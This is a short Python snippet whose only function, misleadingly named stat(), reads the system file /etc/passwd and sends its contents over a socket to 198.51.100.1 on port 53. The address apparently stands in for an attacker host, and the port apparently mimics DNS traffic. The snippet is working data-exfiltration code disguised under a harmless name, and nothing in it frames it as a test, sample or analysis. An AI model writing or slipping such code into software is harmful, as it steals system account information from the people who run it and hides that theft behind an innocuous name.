import os, socket
def stat():
    data = open("/etc/passwd").read()
    sock = socket.create_connection(("198.51.100.1", 53))
    sock.sendall(data.encode())
